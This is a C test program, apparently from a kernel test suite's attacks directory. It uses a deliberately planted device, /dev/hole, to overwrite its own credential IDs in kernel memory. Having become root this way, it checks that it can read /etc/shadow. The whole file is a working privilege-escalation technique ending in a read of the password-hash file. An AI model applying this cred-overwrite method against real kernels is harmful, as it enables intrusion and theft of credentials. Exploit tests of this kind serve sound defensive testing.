/* Becomes root through tests/attacks/hole: overwrites its own ids in the kernel's memory, and reads what only root may. */
#include <err.h>
#include <fcntl.h>
#include <stdint.h>
#include <unistd.h>

int main(void)
{
	/* uid, gid, suid, sgid, euid, egid, fsuid, fsgid: struct cred */
	struct {
		uint64_t address;
		uint32_t ids[8];
	} poke = {};
	char byte;
	int hole = open("/dev/hole", O_RDWR), secret;

	if (!geteuid())
		errx(1, "it is root already");
	if (hole < 0 || read(hole, &poke.address, sizeof(poke.address)) != sizeof(poke.address))
		err(1, "/dev/hole");
	if (open("/etc/shadow", O_RDONLY) >= 0)
		errx(1, "anybody may read /etc/shadow here");
	if (write(hole, &poke, sizeof(poke)) != sizeof(poke))
		err(1, "write");
	if (geteuid())
		errx(1, "it is not root");
	secret = open("/etc/shadow", O_RDONLY);
	if (secret < 0 || read(secret, &byte, 1) != 1)
		err(1, "/etc/shadow");
	return 0;
}
